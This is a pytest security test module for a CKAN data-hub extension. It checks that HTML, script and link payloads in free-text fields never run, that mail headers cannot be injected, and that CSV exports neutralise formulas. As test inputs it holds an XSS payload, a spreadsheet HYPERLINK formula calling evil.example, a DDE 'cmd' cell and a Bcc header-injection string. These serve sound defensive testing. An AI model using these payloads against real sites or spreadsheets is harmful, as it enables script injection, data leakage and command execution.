"""Injection: HTML and script in every free-text field never run, and no CSV cell
the hub writes is a spreadsheet formula (issue 22).

One world is built for the module through the hub's real actions: an
organisation, a contributor, an approved dataset with estimates, a library
document and a contribution awaiting review, each free-text field holding a
payload with a marker of its own, and the review decisions and the mails they
send. Every page is then parsed (BeautifulSoup) and must show no marker inside
a ``<script>``, an ``on*`` attribute or a ``javascript:`` link; each page must
also show the markers it lists as text, so the check cannot pass on a page that
lost the payload.

The free-text fields are read from the scheming schemas
(``ckanext/asmhub/schemas/*.yaml``): a new field there is tested without a line
here. A new page is one line of ``PAGES``; a new CSV one line of ``CSVS``.
"""
from __future__ import annotations

import csv
import io
import json
import re
import uuid
from dataclasses import dataclass
from importlib.resources import files
from types import SimpleNamespace
from typing import Any

import pytest
import yaml
from aiosmtpd.controller import Controller
from bs4 import BeautifulSoup

import ckan.plugins.toolkit as tk
from ckan import model
from ckan.tests import factories
from ckan.tests.helpers import call_action

from ckanext.asmhub.review import CRITERIA

from tests.review.conftest import Inbox, free_port

# The marker as a word (what a reader sees), then a way out of an attribute, a tag that
# runs and one that runs on load.
PAYLOAD = '{m} "\'><script>alert("{m}")</script><img src=x onerror=alert("{m}")>"\''
FORMULA = '=HYPERLINK("http://evil.example/?{m}","click")'
FORMULA_NOTE = "-2+3+cmd|' /C calc'!A0"
LINK_ATTRIBUTES = ("href", "src", "action", "formaction", "xlink:href", "data", "poster")
# Links that do nothing (scheming's add and remove buttons, whose script cancels the click).
NO_OP_LINKS = ("javascript:;", "javascript:void(0);", "javascript:void(0)")

# Schema fields that hold structured values, checked by their validators, never free text.
STRUCTURED_PRESETS = {"dataset_slug", "dataset_organization", "tag_string_autocomplete", "select",
                      "multiple_select", "resource_url_upload", "resource_format_autocomplete",
                      "organization_url_upload"}
STRUCTURED_VALIDATORS = {"asmhub_year", "asmhub_figure", "asmhub_web_link", "asmhub_library_record",
                         "asmhub_licence", "name_validator"}
STRUCTURED_FIELDS = {"spatial", "license_id"}  # GeoJSON, a licence id


def _schema(name: str) -> dict[str, Any]:
    return yaml.safe_load(files("ckanext.asmhub").joinpath("schemas", name).read_text())


def _free_text(field: dict[str, Any]) -> bool:
    validators = set(str(field.get("validators", "")).split())
    return not (field["field_name"] in STRUCTURED_FIELDS or field.get("preset") in STRUCTURED_PRESETS
                or "choices" in field or "choices_helper" in field or "repeating_subfields" in field
                or validators & STRUCTURED_VALIDATORS)


def free_text_fields(schema: str, section: str) -> list[str]:
    """The free-text fields of a schema's section; ``estimates.source`` for a subfield."""
    names = []
    for field in _schema(schema)[section]:
        if _free_text(field):
            names.append(field["field_name"])
        for sub in field.get("repeating_subfields", ()):
            if _free_text(sub):
                names.append(f"{field['field_name']}.{sub['field_name']}")
    return names


def link_fields(schema: str, section: str) -> list[str]:
    return [f["field_name"] for f in _schema(schema)[section]
            if "asmhub_web_link" in str(f.get("validators", "")) or f.get("preset") == "resource_url_upload"]


# Every free-text field, by the object that holds it: "dataset", "resource", "library",
# "document" (a library document's resource), "organization", plus the review's and
# the user's text, which no schema declares.
FIELDS = {
    "dataset": free_text_fields("asm_dataset.yaml", "dataset_fields"),
    "resource": free_text_fields("asm_dataset.yaml", "resource_fields"),
    "library": free_text_fields("asm_library.yaml", "dataset_fields"),
    "document": free_text_fields("asm_library.yaml", "resource_fields"),
    "organization": free_text_fields("asm_organization.yaml", "fields"),
    "review": ["submit_comment", "revisions_comment", "required_change", "criterion_note",
               "resubmit_comment", "approve_comment", "pending_comment", "withdraw_comment"],
    "user": ["fullname", "about"],
}
ALL = [f"{kind}.{name}" for kind, names in FIELDS.items() for name in names]


def marker(key: str) -> str:
    """A word no page holds by chance: ``zqx`` and the field's key without punctuation."""
    return "zqx" + re.sub(r"[^a-z0-9]", "", key.lower())


def payload(key: str) -> str:
    return PAYLOAD.format(m=marker(key))


def _fill(kind: str, **fields: Any) -> dict[str, Any]:
    """``fields`` plus a payload in each top-level free-text field of ``kind``."""
    for name in FIELDS[kind]:
        if "." not in name:
            fields[name] = payload(f"{kind}.{name}")
    return fields


def _estimate(kind: str, indicator: str, **fields: Any) -> dict[str, Any]:
    estimate = {"indicator": indicator, "central": 120000, "ref_year": 2020, "pub_year": 2021,
                "confidence": "B", "source_url": "https://example.org/report"}
    for name in FIELDS[kind]:
        if name.startswith("estimates."):
            estimate[name.split(".", 1)[1]] = payload(f"{kind}.{name}")
    return {**estimate, **fields}


def _as(name: str) -> dict[str, Any]:
    return {"user": name, "ignore_auth": False}


def _criteria(note: str) -> dict[str, Any]:
    return {key: {"answer": "met", "note": note} for key in CRITERIA}


@pytest.fixture(scope="module")
def world(reset_db):
    """The hub's objects, each free-text field holding its payload; the mail they sent."""
    import ckan.plugins as plugins
    import rq
    from ckan.lib import jobs, search
    from ckan.lib.redis import connect_to_redis
    from ckan.tests.helpers import _get_test_app
    from sqlalchemy import orm

    from ckanext.asmhub.datastore import countries as country_tables
    from ckanext.datastore.tests import helpers as datastore_helpers

    inbox, port = Inbox(), free_port()
    controller = Controller(inbox, hostname="127.0.0.1", port=port)
    controller.start()
    smtp_server = tk.config.get("smtp.server")
    plugins.load_all()
    try:
        w = SimpleNamespace(inbox=inbox, smtp_server=f"127.0.0.1:{port}", app=_get_test_app())
        tk.config["smtp.server"] = w.smtp_server
        reset_db()
        search.clear_all()
        connect_to_redis().flushdb()
        datastore_helpers.rebuild_all_dbs(orm.scoped_session(orm.sessionmaker(
            bind=datastore_helpers.db.get_write_engine())))
        w.sysadmin = factories.Sysadmin(name="sysadmin", email="sysadmin@example.org")
        w.moderator = factories.User(name="moderator", email="moderator@example.org")
        call_action("asmhub_moderator_grant", context={"user": "sysadmin"}, id="moderator")
        w.contributor = factories.User(name="contributor", email="contributor@example.org",
                                       **_fill("user"))
        w.org = call_action("organization_create", context={"user": "sysadmin"},
                            **_fill("organization", name="xss-org", users=[
                                {"name": "contributor", "capacity": "editor"}]))
        contributor, moderator = _as("contributor"), _as("moderator")
        resource = _fill("resource", url="https://example.org/data.pdf", format="PDF")  # not loaded by xloader
        w.dataset = call_action("package_create", context=dict(contributor), **_fill(
            "dataset", name="xss-dataset", owner_org=w.org["id"], countries=["TZA"], minerals=["gold"],
            themes=["gender"], temporal_start="2019", temporal_end="2021",
            estimates=[_estimate("dataset", "asm_miners"), _estimate("dataset", "asm_miners_global"),
                       _estimate("dataset", "women_in_asm", unit="percent", central=30,
                                 source=FORMULA.format(m="source"), note=FORMULA_NOTE)],
            resources=[resource]))
        call_action("asmhub_review_submit", context=dict(contributor), id=w.dataset["id"],
                    comment=payload("review.submit_comment"))
        call_action("asmhub_review_decide", context=dict(moderator), id=w.dataset["id"],
                    decision="revisions_requested", comment=payload("review.revisions_comment"),
                    required_changes=[payload("review.required_change")],
                    criteria=_criteria(payload("review.criterion_note")))
        call_action("asmhub_review_submit", context=dict(contributor), id=w.dataset["id"],
                    comment=payload("review.resubmit_comment"))
        call_action("asmhub_review_decide", context=dict(moderator), id=w.dataset["id"],
                    decision="approved", comment=payload("review.approve_comment"),
                    criteria=_criteria(""))
        w.dataset = call_action("package_show", id=w.dataset["id"])
        w.resource = w.dataset["resources"][0]

        document = _fill("document", url="https://example.org/report.pdf", format="PDF")
        w.library = call_action("package_create", context=dict(contributor), **_fill(
            "library", type="library", name="xss-library", owner_org=w.org["id"], year="2020",
            countries=["TZA"], themes=["gender"], resources=[document]))
        call_action("asmhub_review_submit", context=dict(contributor), id=w.library["id"])
        call_action("asmhub_review_decide", context=dict(moderator), id=w.library["id"],
                    decision="approved", criteria=_criteria(""))
        # A change a moderator makes to the public document: an activity with its changes.
        call_action("package_patch", context={"user": "sysadmin"}, id=w.library["id"],
                    notes=payload("library.notes") + " (revised)", title=payload("library.title") + " 2")
        w.change = call_action("package_activity_list", context={"user": "sysadmin"},
                               id=w.library["id"])[0]["id"]

        w.pending = call_action("package_create", context=dict(contributor), name="xss-pending",
                                title=payload("dataset.title"), owner_org=w.org["id"])
        call_action("asmhub_review_submit", context=dict(contributor), id=w.pending["id"],
                    comment=payload("review.pending_comment"))
        w.withdrawn = call_action("package_create", context=dict(contributor), name="xss-withdrawn",
                                  title="Withdrawn contribution", owner_org=w.org["id"])
        call_action("asmhub_review_submit", context=dict(contributor), id=w.withdrawn["id"])
        call_action("asmhub_review_withdraw", context=dict(contributor), id=w.withdrawn["id"],
                    comment=payload("review.withdraw_comment"))

        # The estimates as a DataStore table (``ckan asmhub datastore`` does it for the seed).
        w.table = country_tables.publish({"user": "sysadmin", "ignore_auth": True}, w.dataset)

        with pytest.MonkeyPatch.context() as patch:  # jobs run here, not in a fork
            patch.setattr(rq.Worker, "main_work_horse", rq.SimpleWorker.main_work_horse)
            patch.setattr(rq.Worker, "execute_job", rq.SimpleWorker.execute_job)
            jobs.Worker().work(burst=True)
        w.tokens = {name: {"Authorization": factories.APIToken(user=name)["token"]}
                    for name in ("sysadmin", "moderator", "contributor")}
        w.tokens["anonymous"] = {}
        yield w
    finally:
        tk.config["smtp.server"] = smtp_server
        plugins.unload_all()
        controller.stop()


# --- The check -------------------------------------------------------------------------

def unsafe(html: str, markers: list[str]) -> list[str]:
    """Where a marker could run: a script, an event handler, a javascript: link."""
    soup = BeautifulSoup(html, "html.parser")
    problems = []
    for script in soup.find_all("script"):
        text = script.string or ""
        found = [m for m in markers if m in text]
        if not found:
            continue
        if script.get("type") in ("application/ld+json", "application/json"):
            try:
                json.loads(text)
                continue  # data, not script, and whole: the payload did not close it
            except ValueError:
                pass
        problems.append(f"<script> holds {found}")
    for element in soup.find_all(True):
        for attribute, value in element.attrs.items():
            value = " ".join(value) if isinstance(value, list) else str(value)
            if attribute.lower().startswith("on"):
                found = [m for m in markers if m in value]
                if found:
                    problems.append(f"<{element.name} {attribute}> holds {found}")
            elif attribute.lower() in LINK_ATTRIBUTES:
                link = re.sub(r"[\s\x00-\x1f]", "", value).lower()
                if link.startswith(("javascript:", "vbscript:")) and link not in NO_OP_LINKS:
                    problems.append(f"<{element.name} {attribute}={value!r}>")
    return problems


def test_the_check_finds_markup_that_runs():
    """``unsafe`` is not blind: the payload written into a page unescaped is found in
    each place it could run, and the same payload escaped is not."""
    from markupsafe import escape

    raw = payload("probe")
    page = (f"<p>{raw}</p><input value=\"{raw}\"><a href='javascript:alert(1)'>x</a>"
            f'<script type="application/ld+json">{{"name": "{raw}"}}</script>')
    found = unsafe(page, [marker("probe")])
    assert any(p.startswith("<script>") for p in found) and any("onerror" in p for p in found)
    assert any("javascript:" in p for p in found)
    assert unsafe(f"<p>{escape(raw)}</p><input value=\"{escape(raw)}\">", [marker("probe")]) == []


def text_of(html: str) -> str:
    return BeautifulSoup(html, "html.parser").get_text(" ")


@dataclass
class Page:
    """A page to read as ``who``, and the fields whose markers it must show as text."""
    url: str
    who: str
    shows: tuple[str, ...]

    @property
    def id(self) -> str:
        return f"{self.url}@{self.who}"


PAGES = [
    Page("/", "anonymous", ("dataset.estimates.source",)),
    Page("/dataset/", "anonymous", ("dataset.title",)),
    Page("/dataset/?q=zqxdatasettitle", "anonymous", ("dataset.title",)),
    Page("/library/", "anonymous", ("library.title",)),
    Page("/dataset/xss-dataset", "anonymous",
         ("dataset.title", "dataset.notes", "dataset.attribution", "dataset.source_citation",
          "dataset.estimates.source", "dataset.estimates.note", "resource.name", "organization.title")),
    Page("/dataset/xss-pending", "contributor", ("dataset.title",)),
    Page("/dataset/{resource_url}", "anonymous", ("resource.name", "resource.description", "dataset.title")),
    Page("/library/xss-library", "anonymous",
         ("library.title", "library.notes", "library.authors", "library.publisher",
          "library.attribution", "library.source_citation", "document.name")),
    Page("/library/{document_url}", "anonymous", ("document.name", "document.description",
                                                  "document.provenance")),
    Page("/dataset/activity/xss-dataset", "anonymous", ("dataset.title",)),
    Page("/dataset/changes/{change}", "sysadmin", ("library.title", "library.notes")),
    Page("/organization/", "anonymous", ("organization.title",)),
    Page("/organization/xss-org", "anonymous", ("organization.title", "dataset.title")),
    Page("/organization/about/xss-org", "anonymous", ("organization.title", "organization.description")),
    Page("/organization/activity/xss-org", "sysadmin", ("organization.title",)),
    Page("/user/contributor", "anonymous", ("user.fullname", "user.about")),
    Page("/user/activity/contributor", "contributor", ("dataset.title",)),
    Page("/dashboard/datasets", "contributor", ("dataset.title",)),
    Page("/country", "anonymous", ("dataset.estimates.source",)),
    Page("/country/TZA", "anonymous", ("dataset.estimates.source", "dataset.title", "library.title")),
    Page("/country/sources", "anonymous", ("dataset.estimates.source",)),
    Page("/theme", "anonymous", ()),
    Page("/theme/gender", "anonymous", ("dataset.title",)),
    Page("/review", "moderator", ("dataset.title", "user.fullname", "organization.title")),
    Page("/review?state=withdrawn", "moderator", ("user.fullname",)),
    Page("/review/xss-withdrawn", "moderator", ("review.withdraw_comment",)),
    Page("/review/xss-pending", "moderator", ("dataset.title", "review.pending_comment")),
    Page("/review/xss-dataset", "moderator",
         ("dataset.title", "review.submit_comment", "review.revisions_comment", "review.required_change",
          "review.criterion_note", "review.resubmit_comment", "review.approve_comment")),
    Page("/contributions", "contributor", ("dataset.title", "library.title")),
    Page("/ckan-admin/outbox", "sysadmin", ("dataset.title", "review.revisions_comment",
                                            "review.required_change", "user.fullname")),
    Page("/dataset/edit/xss-dataset", "contributor", ("dataset.title",)),
    Page("/organization/edit/xss-org", "sysadmin", ("organization.title",)),
    Page("/user/edit/contributor", "contributor", ("user.fullname",)),
]


def _url(world, page: Page) -> str:
    return page.url.format(
        change=world.change, resource_url=f"xss-dataset/resource/{world.resource['id']}",
        document_url=f"xss-library/resource/{call_action('package_show', id='xss-library')['resources'][0]['id']}")


MARKERS = [marker(key) for key in ALL]


@pytest.mark.parametrize("page", PAGES, ids=[p.id for p in PAGES])
def test_no_payload_runs_on_any_page(world, page):
    response = world.app.get(_url(world, page), headers=world.tokens[page.who])
    assert response.status_code == 200
    assert unsafe(response.body, MARKERS) == []
    text = text_of(response.body)
    missing = [key for key in page.shows if marker(key) not in text]
    assert missing == [], f"the page lost the payload of {missing}"


@pytest.mark.parametrize("url", [
    "/dataset/?q={p}", "/library/?q={p}", "/organization/?q={p}", "/country?region={p}&sort={p}",
    "/review?organization={p}", "/dataset/{p}", "/country/{p}", "/theme/{p}", "/user/login?came_from={p}",
])
def test_a_payload_in_the_address_is_never_reflected_as_markup(world, url):
    response = world.app.get(url.format(p=payload("address")), headers=world.tokens["moderator"])
    assert unsafe(response.body, [marker("address")]) == []


def test_every_free_text_field_of_the_schemas_is_checked():
    """The list comes from the schemas; a field must not vanish from it by mistake."""
    assert {"title", "notes", "attribution", "source_citation", "estimates.source",
            "estimates.note"} <= set(FIELDS["dataset"])
    assert {"name", "description"} <= set(FIELDS["resource"])
    assert {"title", "description"} <= set(FIELDS["organization"])
    shown = {key for page in PAGES for key in page.shows}
    assert sorted(set(ALL) - shown) == []


# --- Links a browser would run ---------------------------------------------------------

LINKS = [("dataset", name) for name in link_fields("asm_dataset.yaml", "dataset_fields")] + \
        [("resource", name) for name in link_fields("asm_dataset.yaml", "resource_fields")] + \
        [("library", name) for name in link_fields("asm_library.yaml", "dataset_fields")] + \
        [("organization", name) for name in link_fields("asm_organization.yaml", "fields")] + \
        [("estimate", "source_url")]


@pytest.mark.parametrize("kind, field", LINKS, ids=[f"{k}.{f}" for k, f in LINKS])
@pytest.mark.parametrize("link", ["javascript:alert(1)", " JavaScript:alert(1)", "vbscript:msgbox(1)",
                                  "data:text/html,<script>alert(1)</script>"])
def test_a_link_a_browser_would_run_is_refused(world, kind, field, link):
    site = {"user": "sysadmin"}
    name = f"xss-link-{uuid.uuid4().hex[:8]}"
    org = world.org["id"]
    make = {
        "dataset": lambda: call_action("package_create", context=site, name=name, owner_org=org, **{field: link}),
        "library": lambda: call_action("package_create", context=site, name=name, type="library",
                                       owner_org=org, **{field: link}),
        "resource": lambda: call_action("resource_create", context=site, package_id=world.dataset["id"],
                                        **{field: link}),
        "organization": lambda: call_action("organization_create", context=site, name=name, **{field: link}),
        "estimate": lambda: call_action("package_create", context=site, name=name, owner_org=org,
                                        countries=["TZA"], estimates=[_estimate("dataset", "asm_miners",
                                                                                source_url=link)]),
    }[kind]
    with pytest.raises(tk.ValidationError):
        make()


def _store_links(world, link: str) -> dict[str, Any]:
    """Write ``link`` around the API (older data, a bulk fix in SQL) into every link field a
    page shows: the resource's URL, the dataset's and each estimate's source, the
    organisation's website; return what was there."""
    from ckan.lib.search import rebuild

    resource = model.Resource.get(world.resource["id"])
    pkg = model.Package.get(world.dataset["id"])
    org = model.Group.get(world.org["id"])
    before = {"resource": resource.url, "url": pkg.url, "estimates": pkg.extras["estimates"],
              "website": org.extras.get("website")}
    estimates = json.loads(before["estimates"])
    for estimate in estimates:
        estimate["source_url"] = link
    resource.url, pkg.url = link, link
    pkg.extras["estimates"] = json.dumps(estimates)
    org.extras["website"] = link
    model.Session.commit()
    rebuild(world.dataset["id"])  # package_show and the Countries pages read the index
    return before


def _restore_links(world, before: dict[str, Any]) -> None:
    from ckan.lib.search import rebuild

    model.Session.remove()
    resource = model.Resource.get(world.resource["id"])
    pkg = model.Package.get(world.dataset["id"])
    org = model.Group.get(world.org["id"])
    resource.url, pkg.url = before["resource"], before["url"]
    pkg.extras["estimates"] = before["estimates"]
    org.extras["website"] = before["website"] or ""
    model.Session.commit()
    rebuild(world.dataset["id"])


STORED_LINK_PAGES = ["/dataset/xss-dataset", "/dataset/xss-dataset/resource/{resource}", "/country/TZA",
                     "/country", "/", "/organization/about/xss-org"]


def test_a_stored_javascript_link_is_never_a_link(world):
    """Validators refuse these links; what was stored before them, or around them, is
    shown as text on every page, never made a link."""
    before = _store_links(world, "javascript:alert('zqxstoredlink')//https://example.org")
    try:
        shown, problems = 0, {}
        for url in STORED_LINK_PAGES:
            response = world.app.get(url.format(resource=world.resource["id"]))
            assert response.status_code == 200
            problems[url] = unsafe(response.body, [])
            shown += "zqxstoredlink" in text_of(response.body)
        assert {url: found for url, found in problems.items() if found} == {}
        assert shown, "no page read the stored links"
    finally:
        _restore_links(world, before)


# --- Mail ------------------------------------------------------------------------------

def _parts(message) -> dict[str, str]:
    return {part.get_content_type(): part.get_payload(decode=True).decode()
            for part in message.walk() if not part.is_multipart()}


def test_every_mail_shows_the_text_as_written_and_never_as_markup(world):
    """Notices are plain text: the payload arrives as typed (no client renders it); an HTML
    part, if a mail has one, escapes it."""
    messages = world.inbox.messages
    assert len(messages) >= 5
    seen = set()
    for message in messages:
        parts = _parts(message)
        assert set(parts) <= {"text/plain", "text/html"}, set(parts)
        for key in ALL:
            if payload(key) in parts.get("text/plain", ""):
                seen.add(key)
        if "text/html" in parts:
            assert unsafe(parts["text/html"], MARKERS) == []
    assert {"dataset.title", "review.revisions_comment", "review.required_change",
            "review.approve_comment", "review.submit_comment", "user.fullname"} <= seen


def test_a_line_break_in_a_title_cannot_add_a_mail_header(world, monkeypatch):
    import rq
    from ckan.lib import jobs

    monkeypatch.setitem(tk.config, "smtp.server", world.smtp_server)  # each test starts from the ini
    before = len(world.inbox.messages)
    dataset = call_action("package_create", context=_as("contributor"), name="xss-header",
                          owner_org=world.org["id"],
                          title="Gold\r\nBcc: victim@example.org\r\nX-Zqx: injected")
    call_action("asmhub_review_submit", context=_as("contributor"), id=dataset["id"])
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(rq.Worker, "main_work_horse", rq.SimpleWorker.main_work_horse)
        patch.setattr(rq.Worker, "execute_job", rq.SimpleWorker.execute_job)
        jobs.Worker().work(burst=True)
    new = world.inbox.messages[before:]
    assert new, "the notice was not delivered"
    for message in new:
        assert message["X-Zqx"] is None and message["Bcc"] is None
        assert "Gold" in str(message["Subject"])


# --- CSV -------------------------------------------------------------------------------

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?\d+(\.\d+)?([eE][-+]?\d+)?")


@dataclass
class Csv:
    url: str
    delimiter: str = ","


CSVS = [
    Csv("/country.csv"),
    Csv("/datastore/dump/{table}"),
    Csv("/datastore/dump/{table}?format=tsv", "\t"),
    Csv("/datastore/dump/{table}?bom=true"),
]


def formula_cells(body: str, delimiter: str) -> list[str]:
    """Cells a spreadsheet would run; plain numbers (-5) are numbers, not formulas."""
    rows = list(csv.reader(io.StringIO(body.lstrip("\ufeff")), delimiter=delimiter))
    assert len(rows) > 1, body[:200]
    return [cell for row in rows for cell in row
            if cell.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(cell)]


@pytest.mark.parametrize("export", CSVS, ids=[c.url for c in CSVS])
def test_no_csv_cell_is_a_formula(world, export):
    response = world.app.get(export.url.format(table=world.table))
    assert response.status_code == 200
    body = response.get_data(as_text=True)
    assert "zqx" in body or "HYPERLINK" in body  # the payload is there
    assert formula_cells(body, export.delimiter) == []


def test_the_csv_keeps_numbers_and_text_as_they_were(world):
    body = world.app.get(f"/datastore/dump/{world.table}").get_data(as_text=True)
    rows = list(csv.DictReader(io.StringIO(body)))
    assert {r["central"] for r in rows} == {"120000", "30"}
    assert "'" + FORMULA.format(m="source") in {r["source"] for r in rows}
    assert "'" + FORMULA_NOTE in {r["note"] for r in rows}
